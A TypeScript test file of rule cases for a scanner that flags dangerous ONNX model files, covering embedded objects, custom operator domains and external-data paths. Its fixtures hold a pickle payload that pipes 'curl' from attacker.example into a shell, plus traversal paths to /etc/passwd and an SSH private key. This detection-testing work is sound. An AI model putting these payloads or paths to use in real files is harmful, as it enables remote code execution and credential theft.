/**
 * Rule cases of the ONNX rules (firing and non-firing file trees).
 * Test-time only (imports the test-fixture builders and reads test-fixtures/real); run end to end by
 * the engine's rule-case test and in process by src/model-scanners/rule-cases.test.ts.
 */
import { readFileSync } from 'node:fs';
import type { RuleCase, RuleCases } from '../../rules/index.js';
import { ruleCases } from '../../rules/index.js';
import { onnxModel } from '../../../test-fixtures/onnx-builder.js';

const REAL = new URL('../../../test-fixtures/real/', import.meta.url);
const real = (name: string) => (): Uint8Array => readFileSync(new URL(name, REAL));

const REAL_ONNX: RuleCase = { name: 'real ONNX model with external data (onnx 1.23)', files: { 'model.onnx': real('tiny-external.onnx'), 'tiny-external.onnx.data': real('tiny-external.onnx.data') } };

export const ONNX_RULE_CASES: readonly RuleCases[] = [
  ruleCases('onnx/embedded-object', {
    valid: [REAL_ONNX, { name: 'ordinary metadata_props', files: { 'model.onnx': () => onnxModel({ opsets: [['', 17]], graph: { nodes: [{ op: 'Relu' }] }, metadata: { author: 'someone', converted_from: 'pytorch 2.1 via torch.onnx.export' } }) } }],
    invalid: [
      {
        name: 'a protocol-0 pickle in metadata_props',
        files: { 'model.onnx': () => onnxModel({ opsets: [['', 17]], graph: { nodes: [{ op: 'Relu' }] }, metadata: { preprocess: "cos\nsystem\n(S'curl -s http://attacker.example/x | sh'\ntR." } }) },
        expect: { severity: 'medium', messageIncludes: 'metadata_props' },
      },
    ],
  }),
  ruleCases('onnx/custom-operator-domain', {
    valid: [REAL_ONNX, { name: 'onnxruntime contrib op', files: { 'model.onnx': () => onnxModel({ opsets: [['', 17], ['com.microsoft', 1]], graph: { nodes: [{ op: 'FusedMatMul', domain: 'com.microsoft' }] } }) } }],
    invalid: [{ name: 'custom domain in an If branch', files: { 'model.onnx': () => onnxModel({ opsets: [['', 17], ['com.evil', 1]], graph: { nodes: [{ op: 'If', subgraph: { nodes: [{ op: 'Backdoor', domain: 'com.evil' }] } }] } }) }, expect: { evidenceIncludes: 'com.evil' } }],
  }),
  ruleCases('onnx/external-data-path', {
    valid: [REAL_ONNX],
    invalid: [
      { name: 'absolute location', files: { 'model.onnx': () => onnxModel({ graph: { nodes: [{ op: 'Relu' }], initializers: [{ name: 'w', external: { location: '/etc/passwd' } }] } }) }, expect: { severity: 'critical' } },
      { name: 'location with ..', files: { 'model.onnx': () => onnxModel({ graph: { nodes: [{ op: 'Relu' }], initializers: [{ name: 'w', external: { location: '../../home/user/.ssh/id_rsa' } }] } }) } },
    ],
  }),
  ruleCases('onnx/external-data-missing', {
    valid: [REAL_ONNX],
    invalid: [{ name: 'external file absent', files: { 'model.onnx': () => onnxModel({ graph: { nodes: [{ op: 'Relu' }], initializers: [{ name: 'w', external: { location: 'weights.bin' } }] } }) } }],
  }),
  ruleCases('onnx/external-data-range', {
    valid: [REAL_ONNX],
    invalid: [
      {
        name: 'offset+length past the end of the external file',
        files: { 'model.onnx': () => onnxModel({ graph: { nodes: [{ op: 'Relu' }], initializers: [{ name: 'w', external: { location: 'w.bin', offset: '0', length: '4096' } }] } }), 'w.bin': new Uint8Array(16) },
      },
    ],
  }),
];
